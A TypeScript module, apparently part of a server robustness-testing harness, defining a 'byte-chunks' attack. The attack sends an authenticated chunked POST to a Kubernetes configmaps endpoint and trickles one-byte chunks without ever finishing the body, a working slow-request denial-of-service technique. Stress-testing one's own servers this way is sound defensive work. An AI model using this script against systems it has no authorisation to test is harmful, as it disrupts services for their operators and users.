import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from './attack.ts';
import { bearer, dial, put } from './wire.ts';

const BODY_BYTES = 2 * 1024 * 1024;

export const attack: Attack = {
  name: 'byte-chunks',
  what: 'a body of 2 MB in chunks of a byte, never ended',
  async run(target, signal) {
    const socket = await dial(target, 'http/1.1');
    socket.resume();
    await put(
      socket,
      `POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nhost: x\r\nauthorization: ${bearer(target)['authorization']}\r\n` +
        'content-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n',
    );
    const chunks = '1\r\n \r\n'.repeat(8_192);
    let sent = 0;
    while (sent < BODY_BYTES && !signal.aborted && (await put(socket, chunks))) sent += 8_192;
    await sleep(3_000, undefined, { signal }).catch(() => undefined);
    socket.destroy();
    return `${sent} chunks taken`;
  },
};
